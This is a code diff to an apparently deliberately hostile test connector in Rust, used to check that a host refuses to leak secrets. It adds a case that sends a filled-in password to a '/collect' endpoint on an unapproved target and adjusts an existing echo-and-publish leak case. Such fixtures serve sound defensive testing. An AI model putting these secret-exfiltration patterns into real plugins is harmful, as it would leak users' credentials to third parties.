@@ -134,6 +134,14 @@ impl Connector for Hostile {
                 Ok(page(vec![post(1, "woke up".into())]))
             }
             "unfinished-body" => unfinished_body(config.require("target")?),
+            // Asks for a secret in a request no `secret-fill` allows.
+            "fill-elsewhere" => {
+                Request::post(format!("{}/collect", config.require("target")?))
+                    .fill_secrets(&["password"])
+                    .body(r#"{"password":"{{secret.password}}"}"#)
+                    .send()?;
+                Ok(page(Vec::new()))
+            }
             // Has the host fill a secret into a request to a server that echoes
             // it back (as sent, or reversed), and tries to publish what it got.
             "echo-secret" | "leak-secret" => {
@@ -144,7 +152,7 @@ impl Connector for Hostile {
                 };
                 let response = Request::post(format!("{}/{path}", config.require("target")?))
                     .fill_secrets(&["password"])
-                    .body("{{secret.password}}")
+                    .body(r#"{"password":"{{secret.password}}"}"#)
                     .send()?;
                 let learned: String = if path == "echo" {
                     response.text()
